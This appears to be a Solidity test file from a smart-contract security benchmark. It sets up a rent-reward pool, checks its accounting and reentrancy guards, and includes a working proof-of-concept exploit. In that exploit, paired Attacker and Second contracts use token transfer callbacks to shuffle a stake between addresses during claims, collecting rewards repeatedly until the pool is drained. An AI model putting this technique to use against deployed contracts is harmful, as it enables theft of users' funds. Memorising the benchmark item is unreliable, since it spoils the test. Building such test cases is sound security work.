// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./EstateRents.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-5ae810d3-de74-49d5-90cb-b64ce04f53b8

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

interface Hook {
    function moved(address from, address to, uint256 amount) external;
}

// A coin that tells the sender before, and the receiver after a transfer, where they asked for it.
contract Coin is ERC20("Coin", "COIN") {
    address private maker = msg.sender;
    mapping(address => bool) public hooked;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }

    function hook(bool on) external {
        hooked[msg.sender] = on;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (hooked[from]) Hook(from).moved(from, to, amount);
        super._transfer(from, to, amount);
        if (hooked[to]) Hook(to).moved(from, to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_800_000_000;

    Coin public coin;
    EstateRents private rents;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        rents = new EstateRents(coin);
        fill(ANA, 6_000e18);
        fill(BEN, 3_000e18);
        vm.prank(ANA);
        rents.deposit(5_000e18);
        vm.prank(BEN);
        rents.deposit(3_000e18);
        coin.mint(address(this), 4_000e18);
        coin.approve(address(rents), 4_000e18);
        rents.notify(2_592e18);
        mallory = new Attacker(rents, coin);
        coin.mint(address(mallory), 2_000e18);
    }

    function fill(address who, uint256 amount) private {
        coin.mint(who, amount);
        vm.prank(who);
        coin.approve(address(rents), amount);
    }

    function test_Regular() public {
        vm.warp(START + 10 days);
        require(rents.pending(ANA) == 540e18 && rents.pending(BEN) == 324e18, "earned");
        vm.prank(ANA);
        rents.claim();
        require(coin.balanceOf(ANA) == 1_540e18 && rents.pending(ANA) == 0, "claimed");
        vm.prank(BEN);
        rents.move(CAT);
        require(rents.pending(BEN) == 0 && rents.pending(CAT) == 324e18, "moved");
        vm.warp(START + 20 days);
        require(rents.pending(ANA) == 540e18 && rents.pending(CAT) == 648e18, "earned by share");
        vm.prank(ANA);
        rents.deposit(1_000e18);
        require(rents.total() == 9_000e18, "total");
        vm.prank(CAT);
        rents.withdraw(2_000e18);
        require(coin.balanceOf(CAT) == 2_648e18 && rents.total() == 7_000e18, "withdrawn");
        rents.notify(1_036.8e18);
        require(rents.until() == START + 50 days && rents.rate() == uint256(1_900.8e18) / 30 days, "new term");
        vm.prank(CAT);
        rents.move(ANA);
        vm.warp(START + 60 days);
        uint256 due = rents.pending(ANA);
        require(due > 2_440.79e18 && due <= 2_440.8e18, "all of the rest");
        vm.prank(ANA);
        rents.withdraw(7_000e18);
        require(rents.total() == 0 && coin.balanceOf(address(rents)) < 0.01e18, "all out");
        rents.transferOwnership(ANA);
        vm.prank(ANA);
        rents.renounceOwnership();
    }

    function test_RefusesInvestors() public {
        vm.startPrank(ANA);
        vm.expectRevert("!amount");
        rents.deposit(0);
        vm.expectRevert("!amount");
        rents.withdraw(0);
        vm.expectRevert("!balance");
        rents.withdraw(5_000e18 + 1);
        vm.expectRevert("!to");
        rents.move(address(0));
        vm.expectRevert("!to");
        rents.move(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        rents.notify(100e18);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("!coin");
        new EstateRents(IERC20(0));
        EstateRents empty = new EstateRents(coin);
        vm.expectRevert("!total");
        empty.notify(100e18);
        vm.warp(START + 40 days);
        vm.expectRevert("!amount");
        rents.notify(30 days - 1);
    }

    function test_RefusesNesting() public {
        Nested nested = new Nested(rents, coin);
        coin.mint(address(nested), 10e18);
        nested.run();
        require(nested.refusals() == 9, "locked");
        rents.transferOwnership(address(nested));
        coin.mint(address(nested), 10e18);
        nested.own();
        require(nested.refusals() == 13, "locked for the owner");
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + 10 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 5_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(rents);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// Comes back during each transfer.
contract Nested {
    EstateRents private rents;
    Coin private coin;
    uint256 public refusals;

    constructor(EstateRents r, Coin c) {
        rents = r;
        coin = c;
        c.approve(address(r), uint256(-1));
    }

    function run() external {
        coin.hook(true);
        rents.deposit(5e18);
        rents.withdraw(1e18);
        rents.claim();
        coin.hook(false);
    }

    function own() external {
        coin.hook(true);
        rents.notify(5e18);
        coin.hook(false);
    }

    function moved(address, address, uint256) external {
        try rents.deposit(1) {} catch Error(string memory reason) {
            note(reason);
        }
        try rents.withdraw(1) {} catch Error(string memory reason) {
            note(reason);
        }
        try rents.claim() {} catch Error(string memory reason) {
            note(reason);
        }
        try rents.notify(30 days) {} catch Error(string memory reason) {
            note(reason);
        }
    }

    function note(string memory reason) private {
        if (keccak256(bytes(reason)) == keccak256("ReentrancyGuard: reentrant call")) refusals++;
    }
}

contract Attacker {
    EstateRents private rents;
    Coin private coin;
    Second private second;

    constructor(EstateRents r, Coin c) {
        rents = r;
        coin = c;
        second = new Second(r, c);
    }

    function enter() external {
        coin.approve(address(rents), 2_000e18);
        rents.deposit(2_000e18);
    }

    function run() external {
        coin.hook(true);
        for (uint256 i = 0; i < 10; i++) {
            rents.claim();
            second.claim();
        }
        coin.hook(false);
        rents.withdraw(2_000e18);
        second.empty();
    }

    function moved(address, address, uint256) external {
        rents.move(address(second));
    }
}

contract Second {
    EstateRents private rents;
    Coin private coin;
    address private first = msg.sender;

    constructor(EstateRents r, Coin c) {
        rents = r;
        coin = c;
    }

    function claim() external {
        coin.hook(true);
        rents.claim();
        coin.hook(false);
    }

    function empty() external {
        coin.transfer(first, coin.balanceOf(address(this)));
    }

    function moved(address, address, uint256) external {
        rents.move(first);
    }
}
